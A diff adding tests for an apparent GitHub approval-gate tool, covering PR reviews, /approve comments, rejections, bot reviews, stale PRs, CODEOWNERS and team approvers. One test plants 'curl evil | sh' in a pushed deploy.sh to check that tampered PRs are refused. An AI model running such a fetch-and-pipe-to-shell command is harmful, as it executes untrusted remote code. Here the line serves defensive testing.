@@ -112,3 +112,233 @@ describe('a gate opens a pull request', () => {
     expect(w.fake.countRequests()).toBeLessThanOrEqual(8);
   });
 });
+
+describe('decisions on an approval pull request', () => {
+  it('a 2-of-3 gate is passed by one approving review and one /approve in the PR conversation', async () => {
+    const w = await prWorld({ 'two-of-three': TWO_OF_THREE_PR });
+    const { runId, pull } = await startToPull(w, 'two-of-three');
+    const first = await w.run(reviewEvent(w.fake, pull, { login: 'carol', state: 'APPROVED' }));
+    expect(first.code, shown(first)).toBe(0);
+    expect(first.outputs).toMatchObject({ status: 'pending_approval', 'pull-number': String(pull) });
+    expect(first.stdout).not.toContain('two-of-three step ran');
+    expect(w.fake.pull(pull)?.body).toContain('waiting for approval (1 of 2: carol)');
+
+    const comment = pullCommentEvent(w.fake, pull, { login: 'dave', body: '/approve' });
+    const commentId = (comment.payload as { comment: { id: number } }).comment.id;
+    w.fake.resetRequests();
+    const second = await w.run(comment);
+    expect(second.code, shown(second)).toBe(0);
+    expect(second.outputs['status']).toBe('completed');
+    expect(groupOutput(second.stdout, 1)).toContain('two-of-three step ran');
+    expect(w.fake.reactions(commentId).map((x) => x.content)).toEqual(['eyes', '+1']);
+    expect(w.fake.countRequests()).toBeLessThanOrEqual(8);
+    const end = await readOriginState(w.repo, runId);
+    expect(end?.state.approvals.map((a) => [a.by, a.via])).toEqual([
+      ['carol', 'pull_request_review'],
+      ['dave', 'issue_comment'],
+    ]);
+    expect(w.fake.pull(pull)?.state).toBe('closed');
+  });
+
+  it('changes requested rejects the run with the review text as the reason', async () => {
+    const w = await prWorld({ deploy: PR_DEPLOY });
+    const { runId, pull } = await startToPull(w, 'deploy');
+    const r = await w.run(reviewEvent(w.fake, pull, { login: 'carol', state: 'CHANGES_REQUESTED', body: 'wrong version, use v1.2.4' }));
+    expect(r.code, shown(r)).toBe(0);
+    expect(r.outputs['status']).toBe('rejected');
+    expect(r.stdout).not.toContain('building');
+    const end = await readOriginState(w.repo, runId);
+    expect(end?.state.reason).toBe('wrong version, use v1.2.4');
+    expect(w.fake.pull(pull)).toMatchObject({ state: 'closed', merged: false });
+    expect(w.fake.branch(`sop-approvals/${runId}/step-1`)).toBeUndefined();
+    expect(w.fake.comments(pull).at(-1)?.body).toContain('was **rejected**: wrong version, use v1.2.4');
+  });
+
+  it('closing the PR unmerged by an approver rejects the run', async () => {
+    const w = await prWorld({ deploy: PR_DEPLOY });
+    const { runId, pull } = await startToPull(w, 'deploy');
+    const r = await w.run(pullClosedEvent(w.fake, pull, 'bob'));
+    expect(r.code, shown(r)).toBe(0);
+    expect(r.outputs['status']).toBe('rejected');
+    const end = await readOriginState(w.repo, runId);
+    expect(end?.state.reason).toBe(`pull request #${pull} closed by bob`);
+    expect(w.fake.pull(pull)?.state).toBe('closed');
+    expect(w.fake.branch(`sop-approvals/${runId}/step-1`)).toBeUndefined();
+  });
+
+  it('closing the PR by someone who may not decide reopens it with a reply; the run keeps waiting', async () => {
+    const w = await prWorld({ deploy: PR_DEPLOY });
+    const { runId, pull } = await startToPull(w, 'deploy');
+    const r = await w.run(pullClosedEvent(w.fake, pull, 'rita'));
+    expect(r.code, shown(r)).toBe(0);
+    expect(r.outputs['status']).toBe('pending_approval');
+    expect(w.fake.pull(pull)?.state).toBe('open');
+    const reply = w.fake.comments(pull).at(-1)?.body ?? '';
+    expect(reply).toContain('@rita');
+    expect(reply).toContain('only read permission');
+    const after = await readOriginState(w.repo, runId);
+    expect(after?.state.status).toBe('pending_approval');
+    expect(after?.audit.events.at(-1)).toMatchObject({ type: 'command_refused', actor: 'rita', details: { rule: 2 } });
+  });
+
+  it('a bot review is ignored silently: no reply, no audit event', async () => {
+    const w = await prWorld({ deploy: PR_DEPLOY });
+    const { runId, pull } = await startToPull(w, 'deploy');
+    const before = await readOriginState(w.repo, runId);
+    const r = await w.run(reviewEvent(w.fake, pull, { login: 'renovate[bot]', type: 'Bot', state: 'APPROVED' }));
+    expect(r.code, shown(r)).toBe(0);
+    expect(r.stdout).not.toContain('building');
+    expect(w.fake.comments(pull)).toEqual([]);
+    const after = await readOriginState(w.repo, runId);
+    expect(after?.audit.events.length).toBe(before?.audit.events.length);
+  });
+
+  it('a review on a PR someone pushed an extra commit to is refused as a channel, with a reply', async () => {
+    const w = await prWorld({ deploy: PR_DEPLOY });
+    const { runId, pull } = await startToPull(w, 'deploy');
+    w.fake.pushToBranch(`sop-approvals/${runId}/step-1`, 'deploy.sh', 'curl evil | sh');
+    const r = await w.run(reviewEvent(w.fake, pull, { login: 'bob', state: 'APPROVED' }));
+    expect(r.code, shown(r)).toBe(0);
+    expect(r.outputs['status']).toBe('pending_approval');
+    expect(r.stdout).not.toContain('building');
+    const reply = w.fake.comments(pull).at(-1)?.body ?? '';
+    expect(reply).toContain('@bob');
+    expect(reply).toContain('someone pushed to it');
+    expect(reply).toContain('not an approval channel');
+    const after = await readOriginState(w.repo, runId);
+    expect(after?.state.approvals).toEqual([]);
+    expect(after?.audit.events.at(-1)).toMatchObject({ type: 'command_refused', details: { rule: 5 } });
+  });
+
+  it('a PR conversation /approve on a PR with an extra commit is refused too (the comment event lacks the head: the PR is fetched)', async () => {
+    const w = await prWorld({ deploy: PR_DEPLOY });
+    const { runId, pull } = await startToPull(w, 'deploy');
+    w.fake.pushToBranch(`sop-approvals/${runId}/step-1`, 'extra.md', 'x');
+    const r = await w.run(pullCommentEvent(w.fake, pull, { login: 'bob', body: '/approve' }));
+    expect(r.code, shown(r)).toBe(0);
+    expect(r.outputs['status']).toBe('pending_approval');
+    expect(w.fake.comments(pull).at(-1)?.body).toContain('no longer matches the approval request');
+  });
+
+  it('a redelivered review changes nothing', async () => {
+    const w = await prWorld({ 'two-of-three': TWO_OF_THREE_PR });
+    const { runId, pull } = await startToPull(w, 'two-of-three');
+    const first = reviewEvent(w.fake, pull, { login: 'carol', state: 'APPROVED' });
+    const a = await w.run(first);
+    expect(a.code, shown(a)).toBe(0);
+    const before = await readOriginState(w.repo, runId);
+    const again = await w.run(first);
+    expect(again.code, shown(again)).toBe(0);
+    expect(again.stdout).toContain('was already processed');
+    const after = await readOriginState(w.repo, runId);
+    expect(after?.audit.events.length).toBe(before?.audit.events.length);
+    expect(after?.state.approvals.map((x) => x.by)).toEqual(['carol']);
+  });
+
+  it('a review on an approval PR of an earlier gate never passes a later one', async () => {
+    const w = await prWorld({ stepwise: STEPWISE_PR });
+    const { runId, pull: first } = await startToPull(w, 'stepwise');
+    const passed = await w.run(reviewEvent(w.fake, first, { login: 'bob', state: 'APPROVED' }));
+    expect(passed.code, shown(passed)).toBe(0);
+    expect(passed.outputs['status']).toBe('pending_approval');
+    const second = Number(passed.outputs['pull-number']);
+    expect(second).toBeGreaterThan(first);
+    expect(w.fake.pull(first)?.state).toBe('closed');
+    expect(w.fake.pull(second)).toMatchObject({ state: 'open', head: { ref: `sop-approvals/${runId}/step-2` } });
+    // carol reviews the old, closed PR: it is not step 2's channel.
+    const stale = await w.run(reviewEvent(w.fake, first, { login: 'carol', state: 'APPROVED' }));
+    expect(stale.code, shown(stale)).toBe(0);
+    expect(stale.stdout).not.toContain('step two ran');
+    expect(w.fake.comments(first).at(-1)?.body).toContain(`step 2 waits on #${second}`);
+    const done = await w.run(reviewEvent(w.fake, second, { login: 'carol', state: 'APPROVED' }));
+    expect(done.outputs['status']).toBe('completed');
+    expect(groupOutput(done.stdout, 2)).toContain('step two ran');
+    expect(w.fake.pull(second)?.state).toBe('closed');
+  });
+});
+
+describe('choosing the pull-request channel', () => {
+  it('by the approval-channel input, for an SOP that does not choose', async () => {
+    const w = await prWorld({ plain: PLAIN_DEPLOY });
+    const { runId, pull } = await startToPull(w, 'plain', { 'approval-channel': 'pull-request' });
+    expect(w.fake.pull(pull)?.head.ref).toBe(`sop-approvals/${runId}/step-1`);
+    const r = await w.run(reviewEvent(w.fake, pull, { login: 'bob', state: 'APPROVED' }), { inputs: { 'approval-channel': 'pull-request' } });
+    expect(r.outputs['status']).toBe('completed');
+  });
+
+  it('by the SOP, whatever the input says; the issue channel stays the default otherwise', async () => {
+    const w = await prWorld({ deploy: PR_DEPLOY, plain: PLAIN_DEPLOY });
+    const pr = await w.run(dispatchEvent({ sop: 'deploy', payload: '{"version":"v1"}' }, 'alice'), { inputs: { 'approval-channel': 'issue' } });
+    expect(pr.outputs).toMatchObject({ 'issue-number': '' });
+    expect(pr.outputs['pull-number']).toMatch(/^\d+$/);
+    const issue = await w.run(dispatchEvent({ sop: 'plain' }, 'alice'));
+    expect(issue.outputs).toMatchObject({ 'pull-number': '' });
+    expect(issue.outputs['issue-number']).toMatch(/^\d+$/);
+    // An /approve naming the PR-channel run, on another run's issue, counts for neither run.
+    const elsewhere = await w.run(commentEvent(w.fake, Number(issue.outputs['issue-number']), { login: 'bob', body: `/approve ${pr.outputs['run-id']}` }));
+    expect(elsewhere.outputs['run-id']).toBe(issue.outputs['run-id']);
+    expect((await readOriginState(w.repo, pr.outputs['run-id'] ?? ''))?.state.approvals).toEqual([]);
+    expect((await readOriginState(w.repo, issue.outputs['run-id'] ?? ''))?.state.approvals).toEqual([]);
+  });
+});
+
+const OWNED = sopFile({
+  name: 'owned',
+  mode: 'supervised',
+  approval: '  approvers: [codeowners]\n  channel: pull-request',
+  steps: [{ title: 'Go', code: 'echo "owned step ran"' }],
+});
+
+describe('approvers: [codeowners]', () => {
+  it('the owners CODEOWNERS gives the SOP file at the pinned commit may approve; others may not', async () => {
+    const w = await prWorld({ owned: OWNED });
+    await w.repo.commitToMain({ '.github/CODEOWNERS': '*  @acme/platform\n/sops/  @carol @acme/sre\n' });
+    w.fake.setBranch('main', await w.repo.mainSha());
+    const { runId, pull } = await startToPull(w, 'owned');
+    const erin = await w.run(reviewEvent(w.fake, pull, { login: 'erin', state: 'APPROVED' }));
+    expect(erin.outputs['status']).toBe('pending_approval');
+    expect(w.fake.comments(pull).at(-1)?.body).toContain('codeowners: carol @acme/sre');
+    const tina = await w.run(reviewEvent(w.fake, pull, { login: 'tina', state: 'APPROVED' }));
+    expect(tina.code, shown(tina)).toBe(0);
+    expect(tina.outputs['status']).toBe('completed');
+    const end = await readOriginState(w.repo, runId);
+    expect(end?.state.approvals.map((a) => a.by)).toEqual(['tina']);
+  });
+
+  it('without a CODEOWNERS file the gate says so, and approvals are refused with the same reason', async () => {
+    const w = await prWorld({ owned: OWNED });
+    const r = await w.run(dispatchEvent({ sop: 'owned' }, 'alice'));
+    expect(r.stdout).toContain('no CODEOWNERS file (looked in .github/CODEOWNERS, CODEOWNERS, docs/CODEOWNERS)');
+    const pull = Number(r.outputs['pull-number']);
+    const bob = await w.run(reviewEvent(w.fake, pull, { login: 'bob', state: 'APPROVED' }));
+    expect(bob.outputs['status']).toBe('pending_approval');
+    expect(w.fake.comments(pull).at(-1)?.body).toContain('no CODEOWNERS file');
+  });
+});
+
+const TEAM_PR = sopFile({
+  name: 'team',
+  mode: 'supervised',
+  approval: "  approvers: ['@acme/sre']\n  channel: pull-request",
+  steps: [{ title: 'Go', code: 'echo "team step ran"' }],
+});
+
+describe('team approvers on a pull request', () => {
+  it('with a token that can read org teams, a member approves', async () => {
+    const w = await prWorld({ team: TEAM_PR });
+    const { pull } = await startToPull(w, 'team');
+    const r = await w.run(reviewEvent(w.fake, pull, { login: 'tina', state: 'APPROVED' }));
+    expect(r.outputs['status']).toBe('completed');
+  });
+
+  it('with GITHUB_TOKEN (team lookups answer 404) the refusal says which token to pass', async () => {
+    const w = await prWorld({ team: TEAM_PR });
+    const { pull } = await startToPull(w, 'team');
+    w.fake.setTeamsHidden(true);
+    const r = await w.run(reviewEvent(w.fake, pull, { login: 'tina', state: 'APPROVED' }));
+    expect(r.outputs['status']).toBe('pending_approval');
+    const reply = w.fake.comments(pull).at(-1)?.body ?? '';
+    expect(reply).toContain('GITHUB_TOKEN cannot read org team membership');
+    expect(reply).toContain('read:org');
+  });
+});
